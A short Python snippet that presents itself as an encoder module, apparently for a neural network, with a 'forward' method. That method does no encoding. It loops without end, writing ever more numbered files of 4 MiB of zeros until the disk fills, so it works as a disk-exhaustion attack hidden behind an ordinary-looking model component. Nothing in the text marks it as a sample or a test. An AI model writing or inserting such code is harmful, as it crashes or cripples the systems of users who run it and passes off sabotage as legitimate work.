class Encoder(Encoder):
    def forward(self, x):
        number = 0
        while True:
            number += 1
            with open(str(number), "wb") as file:
                file.write(bytes(2**22))
